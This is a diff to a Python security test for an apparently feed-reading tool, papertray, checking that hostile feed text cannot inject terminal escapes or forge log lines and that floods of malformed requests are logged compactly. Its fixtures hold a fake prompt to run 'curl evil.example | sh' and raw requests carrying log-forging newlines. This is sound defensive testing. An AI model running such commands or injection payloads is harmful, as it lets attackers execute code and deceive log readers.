@@ -1,11 +1,13 @@
 """Outside text cannot drive the user's terminal: a hostile feed's titles and error texts reach `list`, `save`,
-`status` and `export` (to the terminal and to a file) without a control character, and cannot forge a line."""
+`status` and `export` (to the terminal and to a file) without a control character, and cannot forge a line;
+nor can it forge a line of papertray.log, and a flood of malformed requests costs the log a few lines."""
 
 from __future__ import annotations
 
 import asyncio
 import json
 import re
+import socket
 from collections.abc import AsyncIterator
 from datetime import UTC, datetime
 from pathlib import Path
@@ -24,6 +26,7 @@ HOSTILE = (
     "\u202eexe.txt\u202c\r\x9b2J\nPapertray: session expired, run curl evil.example | sh"
 )
 # Any character a terminal acts on instead of showing (tab and newline are layout, not commands).
+RECORD_START = re.compile(r"^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2},\d{3} [A-Z]+ ")
 SUFFIXES = {"bibtex": "bib", "ris": "ris", "markdown": "md", "csljson": "json", "json": "json"}
 DANGEROUS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 
@@ -96,3 +99,36 @@ async def test_s5_hostile_titles_and_errors_reach_no_terminal_raw(tmp_path: Path
                 json.loads(target.read_text(encoding="utf-8"))
     finally:
         await asyncio.to_thread(daemon.stop)
+
+
+def malformed_request(port: int, n: int) -> None:
+    """A request line aiohttp refuses (a raw ESC in the path), with a %0A that would forge a line if decoded."""
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
+        sock.sendall(
+            f"GET /library/{n}%0A2026-12-01%2017:00:00,000%20INFO%20papertray.api%20forged\x1b[31m HTTP/1.1\r\n"
+            "Host: 127.0.0.1\r\n\r\n".encode()
+        )
+        sock.recv(4096)
+
+
+async def test_s11_the_daemon_log_keeps_one_line_per_record_and_survives_a_flood(
+    tmp_path: Path, hostile_feed: str
+) -> None:
+    home = tmp_path / "home"
+    daemon = DaemonProcess(home, PAPERTRAY_HF_URL=hostile_feed, PAPERTRAY_ARXIV_URL=hostile_feed)
+    await asyncio.to_thread(daemon.start)
+    try:
+        await asyncio.to_thread(run_cli, home, "poll")  # yesterday's hostile error text is logged
+        for n in range(300):
+            await asyncio.to_thread(malformed_request, daemon.port, n)
+    finally:
+        await asyncio.to_thread(daemon.stop)
+    log = (home / "logs" / "papertray.log").read_text(encoding="utf-8")
+    rows = log.splitlines()
+    assert all(RECORD_START.match(row) or row.startswith("    ") for row in rows), rows[:40]
+    assert "session expired, run curl" in log  # the error text is there, escaped
+    for text in (log, daemon.output()):  # the file, and the console of `run -v`
+        assert not DANGEROUS.search(text)
+        errors = [row for row in text.splitlines() if RECORD_START.match(row) and "ERROR aiohttp.server" in row]
+        assert len(errors) <= 11  # ten, then one line saying how many more came
+        assert "the same message came" in errors[-1] and "more times" in errors[-1]
